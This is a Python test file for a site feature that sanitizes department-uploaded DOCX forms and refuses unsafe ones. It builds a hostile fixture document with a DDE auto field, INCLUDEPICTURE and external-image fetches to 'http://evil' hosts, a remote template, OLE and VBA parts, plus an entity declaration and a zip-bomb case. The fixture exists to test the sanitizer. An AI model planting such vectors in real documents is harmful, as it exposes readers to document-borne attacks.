"""A department's own form (DOCX): cleaned when a steward puts it beside an item, given out by the site and in files."""

from __future__ import annotations

import io
import re
import zipfile

import pytest

from counter import acts
from counter.errors import Refusal
from counter.site.export import Export
from counter.site.finding import Finding
from counter.store import public
from tests.site.conftest import phone, publisher
from tests.site.test_hostile_visitors import png

__all__ = ["phone", "publisher"]
ITEM = "startup-subsidy"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="' + LINK + '"'
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml"'
    ' xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
    ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="w14"'
)


def field(*words: str, shown: str = "", inner: str = "") -> str:
    """A field whose words come in pieces, `inner` among them."""
    pieces = "".join(f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>' for one in words)
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "separate", "end"))
    return f"{begin}{pieces}{inner}{separate}<w:r><w:t>{shown}</w:t></w:r>{end}"


HOSTILE = (
    "<w:p><w:r><w:t>姓名：</w:t></w:r>" + field(" FORMTEXT ", shown="____") + "</w:p>"
    "<w:p>" + field("DDE", "AUTO c:\\\\evil", shown="看过的") + field("", inner=field("REF x")) + "</w:p>"
    '<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil/p"><w:r><w:t>图</w:t></w:r></w:fldSimple></w:p>'
    '<w:p><w:hyperlink r:id="out"><w:r><w:t>更多</w:t></w:r></w:hyperlink>'
    '<w:hyperlink w:anchor="here"><w:r><w:t>这里</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:r><w:drawing><a:blip r:embed="pic"/><a:blip r:link="far"/></w:drawing></w:r></w:p>'
    '<w:p><w:r><w:object><v:shape><v:imagedata src="http://evil/v"/></v:shape><o:OLEObject r:id="ole"/></w:object>'
    "</w:r></w:p>"
    '<w:p><w:ins w:id="1" w:author="王某某"><w:r><w:t>改过</w:t></w:r></w:ins><w:commentReference w:id="0"/></w:p>'
    '<w:altChunk r:id="chunk"/><?xml-stylesheet href="http://evil/s"?><!-- 内部 -->'
)
LEADS = {
    "out": ("hyperlink", "http://evil/x", True),
    "far": ("image", "http://evil/far.png", True),
    "tpl": ("attachedTemplate", "file://evil/t.dotm", True),
    "pic": ("image", "media/a.png", False),
    "ole": ("oleObject", "embeddings/o.bin", False),
    "chunk": ("aFChunk", "x.html", False),
    "macro": ("vbaProject", "vbaProject.bin", False),
    "set": ("settings", "settings.xml", False),
}


def docx(body: str = HOSTILE, main: str = f"{WORD}.document.main+xml", **more: bytes) -> bytes:
    """A document with all that a form must not bring along."""
    outside = ("Internal", "External")
    leads = "".join(
        f'<Relationship Id="{id}" Type="{LINK}/{kind}" Target="{to}" TargetMode="{outside[out]}"/>'
        for id, (kind, to, out) in LEADS.items()
    )
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="png" ContentType="image/png"/><Default Extension="bin" ContentType="application/x"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        f'<Override PartName="/word/settings.xml" ContentType="{WORD}.settings+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="a" Type="{LINK}/officeDocument"'
        ' Target="word/document.xml"/><Relationship Id="b" Type="x/core-properties" Target="docProps/core.xml"/>'
        "</Relationships>",
        "docProps/core.xml": "<p>王某某</p>",
        "word/document.xml": f"<w:document {SPACES}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELS}">{leads}</Relationships>',
        "word/settings.xml": f'<w:settings {SPACES}><w:attachedTemplate r:id="tpl"/><w:zoom w:percent="90"/>'
        "</w:settings>",
        "word/media/a.png": png(9, 9),
        "word/embeddings/o.bin": b"MZ",
        "word/vbaProject.bin": b"macro",
        "word/x.html": "<script>",
        **more,
    }
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return held.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


async def test_it_is_given_out_cleaned_on_the_site_and_in_the_files_until_it_is_taken_off(
    hall, people, phone, publisher, tmp_path, monkeypatch
):
    whole = public.listed
    monkeypatch.setattr(
        public, "listed", lambda *asked, **kind: [row for row in whole(*asked, **kind) if row["code"] == ITEM]
    )
    monkeypatch.setattr(Finding, "ways", lambda self: [])
    page = (await phone.get(f"/guides/{ITEM}")).text
    assert "own-form" not in page and (await phone.get(f"/own-form/{ITEM}")).status_code == 404
    done = hall.do(acts.form_attach, people["sup"], item=ITEM, name="申请表.docx", content=docx())
    assert hall.do(acts.form_attach, people["sup"], item=ITEM, name="申请表.docx", content=docx()) == done, "once"
    assert (await phone.get(f"/guides/{ITEM}")).text.count(f'href="/own-form/{ITEM}"') == 1
    answer = await phone.get(f"/own-form/{ITEM}")
    assert answer.headers["content-type"].endswith("wordprocessingml.document") and "attachment" in str(answer.headers)
    parts = parts_of(answer.content)
    assert set(parts) == {
        *("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels"),
        *("word/settings.xml", "word/media/a.png"),
    }
    everything = b"".join(parts.values()).decode("utf-8", "replace")
    for gone in (
        "evil",
        "王某某",
        "内部",
        "DDE",
        "AUTO",
        "REF x",
        "INCLUDEPICTURE",
        "External",
        "OLEObject",
        "vba",
        "altChunk",
    ):
        assert gone not in everything, gone
    text = parts["word/document.xml"].decode()
    assert re.findall("<w:t>([^<]+)</w:t>", text) == ["姓名：", "____", "看过的", "图", "更多", "这里", "改过"]
    assert " FORMTEXT " in text and 'r:embed="pic"' in text and 'mc:Ignorable="w14"' in text and "xmlns:w14" in text
    assert text.count('fldCharType="begin"') == text.count('fldCharType="end"') == 4
    assert "attachedTemplate" not in everything and b'w:percent="90"' in parts["word/settings.xml"]

    Export(hall.directory / "public" / "public.db", tmp_path / "out").run()
    assert (tmp_path / "out" / "forms" / f"{ITEM}.docx").read_bytes() == answer.content
    assert f'href="/forms/{ITEM}.docx"' in (tmp_path / "out" / "guides" / f"{ITEM}.en.html").read_text("utf-8")

    newer = hall.do(acts.form_attach, people["admin"], item=ITEM, name="新表.docx", content=docx("<w:p/>"))
    assert newer.sha256 != done.sha256 and hall.ask(acts.form_list, people["sup"]) == (newer,)
    assert (await phone.get(f"/own-form/{ITEM}")).content != answer.content
    hall.do(acts.form_remove, people["sup"], item=ITEM)
    assert "own-form" not in (await phone.get(f"/guides/{ITEM}")).text
    assert (await phone.get(f"/own-form/{ITEM}")).status_code == 404
    with pytest.raises(Refusal, match="没有部门自己的表格"):
        hall.do(acts.form_remove, people["sup"], item=ITEM)
    Export(hall.directory / "public" / "public.db", tmp_path / "out").run()
    assert not list((tmp_path / "out" / "forms").glob("*.docx"))


def test_what_is_no_harmless_form_is_refused_with_the_reason(hall, people):
    entity = '<!DOCTYPE x [<!ENTITY a "b">]><w:document xmlns:w="x">&a;</w:document>'
    for name, content, why in (
        ("表.docm", docx(), "带宏"),
        ("表.docx", docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "带宏"),
        ("表.docx", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "旧的 DOC"),
        ("表.docx", b"%PDF-1.7 %%EOF", "不是完好的 DOCX"),
        ("表.docx", docx()[:-300], "不是完好的 DOCX"),
        (
            "表.docx",
            docx(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
            "不是 DOCX",
        ),
        ("表.docx", docx(**{"word/document.xml": entity.encode()}), "不该有的声明"),
        ("表.docx", docx(**{"word/document.xml": b"<w:document"}), "内容不完好"),
        ("表.docx", docx(**{"word/big.xml": b"\0" * 9_000_000}), "解开以后太大"),
        ("表.docx", docx(**{f"word/{n}.xml": b"" for n in range(300)}), "部分太多"),
        ("表.docx", b"PK\x03\x04" + b"\0" * 1_000_001, "超过 1 MB"),
    ):
        with pytest.raises(Refusal) as refused:
            hall.do(acts.form_attach, people["sup"], item=ITEM, name=name, content=content)
        assert why in refused.value.message, (why, refused.value.message)
    assert hall.ask(acts.form_list, people["sup"]) == ()
    with pytest.raises(Refusal):
        hall.do(acts.form_attach, people["c3"], item=ITEM, name="表.docx", content=docx())
    with pytest.raises(Refusal):
        hall.do(acts.form_attach, people["sup"], item="nothing", name="表.docx", content=docx())
